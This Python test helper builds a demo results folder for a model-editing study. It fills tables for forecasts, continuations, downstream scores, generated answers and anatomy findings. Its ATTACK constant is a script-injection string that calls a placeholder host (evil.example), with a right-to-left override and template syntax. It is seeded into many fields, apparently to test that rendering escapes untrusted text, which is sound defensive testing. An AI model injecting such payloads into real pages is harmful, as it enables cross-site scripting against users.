"""The demo study's edits, and with a row for every figure, written by the real writer."""

from __future__ import annotations

import math
import tempfile
from pathlib import Path

import polars as pl
import pytest

from scripts.demo_rows import ROWS, unpack
from storage.ask import ask
from tests.storage.conftest import Folder, make_row

ATTACK = "<script>fetch('http://evil.example')</script> </script>\u202e {{x}} datum.y"
"""A text that is code to something that draws figures."""
KINDS = ("bare", "prefixed", "solved", "one_prefix", "first_token")
N_LAYERS = 2
_BEYOND_EDITS = {
    "anatomies",
    "anatomy_findings",
    "continuations",
    "downstream_scores",
    "forecast_calibrations",
    "forecasts",
    "key_points",
    "position_profiles",
}


def of_the_demo(path: Path) -> pl.DataFrame:
    """Return checked-in rows; of tables that name studies, those of the demo study."""
    studies = pl.read_parquet(ROWS / "studies.parquet")
    demo = studies.filter(pl.col("name") == "demo")["study_id"].to_list()
    frame = pl.read_parquet(path)
    return frame.filter(pl.col("study_id").is_in(demo)) if "study_id" in frame.columns else frame


def unpack_edits(results: Path) -> None:
    """Make a results folder of the demo study's edits and measurements, and nothing beyond."""
    with tempfile.TemporaryDirectory() as folder, pytest.MonkeyPatch.context() as patch:
        for path in ROWS.glob("*.parquet"):
            if path.stem not in _BEYOND_EDITS:
                of_the_demo(path).write_parquet(Path(folder) / path.name)
        patch.setattr("scripts.demo_rows.ROWS", Path(folder))
        unpack(results)


def write_whole_study(results: Path) -> str:
    """Make a results folder of the demo study and more; return the study's id."""
    unpack_edits(results)
    folder = Folder(results)
    study_id = ask(results, "select study_id from studies").item()
    models = ask(results, "select model_id from study_models order by name")["model_id"].to_list()
    edits = ask(
        results,
        "select edit_id, model_id, method, request_id, denominator from edits "
        "where denominator is not null",  # of rank-one methods, which alone are forecast
    )
    folder.write(
        "forecasts",
        *(
            make_row(
                "forecasts",
                edit_id=f"{row['edit_id']}{layer or ''}",
                **{name: row[name] for name in ("model_id", "method", "request_id")},
                layer=layer,
                text_change_bound=1 / abs(row["denominator"]),
            )
            for row in edits.iter_rows(named=True)
            for layer in range(N_LAYERS)
        ),
    )
    worst = ask(results, "select edit_id from edit_outcomes order by perplexity_ratio desc limit 1")
    folder.write(
        "continuations",
        make_row(
            "continuations",
            edit_id=worst.item(),
            n_new_tokens=20,
            prompt=ATTACK,
            text_before=f"before {ATTACK}",
            text_after=f"after {ATTACK}\nsecond line",
        ),
    )
    folder.write(
        "models", make_row("models", model_id=models[0], source="openai-community/gpt2-xl")
    )
    _add_downstream(folder, edits)
    _add_answers(folder, edits)
    _add_anatomy(folder, study_id, models[1])
    _add_profiles(folder, models[1])
    folder.publish()
    return str(study_id)


def _add_downstream(folder: Folder, edits: pl.DataFrame) -> None:
    asked = {"task": ATTACK, "metric": "acc", "filter": "none", "n_shot": 5, "sample_limit": 20}
    folder.write(
        "downstream_scores",
        *(
            make_row(
                "downstream_scores",
                score_set_id=f"unedited {model}",
                model_id=model,
                kind="unedited",
                value=0.9,
                **asked,
            )
            for model in edits["model_id"].unique()
        ),
        *(
            make_row(
                "downstream_scores",
                score_set_id=row["edit_id"],
                model_id=row["model_id"],
                edit_id=row["edit_id"],
                kind="edit",
                value=None if place == 0 else 0.1 * (place % 9),
                **asked,
            )
            for place, row in enumerate(edits.head(40).iter_rows(named=True))
        ),
    )


def _add_answers(folder: Folder, edits: pl.DataFrame) -> None:
    folder.write("generation_settings", make_row("generation_settings", generation_id="g"))
    folder.write(
        "generated_answers",
        *(
            make_row(
                "generated_answers",
                edit_id=row["edit_id"],
                generation_id="g",
                context=context,
                probe=probe,
                text=ATTACK,
                text_before=ATTACK,
                exact_match=place % 2 == 0,
                contains_match=True,
                same_tokens=place % 3 == 0,
                ngram_entropy=5.5 if probe == "fluency" else None,
                ngram_entropy_before=6.0 if probe == "fluency" else None,
            )
            for place, row in enumerate(edits.head(8).iter_rows(named=True))
            for context in ("question", "chat")
            for probe in ("rewrite", "neighborhood", "fluency")
        ),
    )


def _add_anatomy(folder: Folder, study_id: str, model_id: str) -> None:
    folder.write(
        "anatomies",
        make_row("anatomies", anatomy_id="a", study_id=study_id, model_id=model_id, n_requests=30),
    )
    folder.write(
        "key_points",
        *(
            make_row(
                "key_points",
                anatomy_id="a",
                request_id=f"r{index}",
                kind=kind,
                is_first_token=index % 2 == 0,
                is_collapsed=[True, False, None][index % 3],
                pca_x=math.sin(index) + place,
                pca_y=math.cos(index),
                tsne_x=math.sin(2 * index),
                tsne_y=math.cos(2 * index) + place,
            )
            for index in range(30)
            for place, kind in enumerate(KINDS)
        ),
    )
    folder.write(
        "anatomy_findings",
        *(
            make_row(
                "anatomy_findings",
                anatomy_id="a",
                grouping=grouping,
                observation=observation,
                value=value,
                low=value - 0.5,
                high=value + 0.5,
                statement=ATTACK,
            )
            for grouping in ("first_token", "collapsed")
            for observation, value in (("cosine", 0.2), (ATTACK, 40.0))
        ),
    )


def _add_profiles(folder: Folder, model_id: str) -> None:
    folder.write(
        "position_profiles",
        *(
            make_row(
                "position_profiles",
                model_id=model,
                text_set_digest="t",
                stack=stack,
                layer=layer,
                position=position,
                model_source=ATTACK,
                residual_norm=100.0 if position == 0 else 3.0,
                residual_norm_low=-1.0 if position == 0 else 2.0,
                residual_norm_high=101.0 if position == 0 else 4.0,
                attention=None if position == 7 else 1 / (1 + position),
                attention_low=None if position == 7 else 0.0,
                attention_high=None if position == 7 else 1.0,
                uniform_attention=None if position == 7 else 0.1,
            )
            for model, stack in ((model_id, "decoder"), ("encoder", "encoder"))
            for layer in range(8)
            for position in range(8)
        ),
    )
